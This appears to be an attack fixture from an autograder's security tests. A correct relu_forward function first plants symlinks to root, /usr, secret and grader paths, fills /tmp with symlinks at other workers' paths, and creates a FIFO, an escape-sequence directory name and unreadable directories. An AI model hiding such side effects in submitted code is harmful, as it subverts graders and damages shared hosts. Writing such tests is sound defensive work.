# /// attack
# tries = "leaves in its scratch folder what cannot be cleared, or leads elsewhere"
# question = "relu_forward"
# verdict = ["PASSED"]
# ///
# %% question="relu_forward"
import contextlib
import os

import numpy as np

LINKS = {
    "up": "..",
    "course": "@COURSE@",
    "secret": "@SECRET@",
    "..\n": "/",
    "grader-worker-1": "/usr",
    "core": "@SECRET@",
    "__pycache__": "@ROOT@/grader",
}


def relu_forward(x):
    with contextlib.suppress(OSError):
        for name, target in LINKS.items():
            os.symlink(target, name)
        for number in range(2, 3000):  # where the host clears up behind a worker
            os.symlink("@COURSE@", f"/tmp/grader-worker-{number}")
        os.mkfifo("pipe")
        os.mkdir(b"\xff\n\x1b[2J")
        os.makedirs("closed/inner")
        open("closed/inner/file", "w").close()
        os.chmod("closed/inner", 0)
        os.chmod("closed", 0)
        os.chmod(".", 0)
    return np.maximum(x, 0)
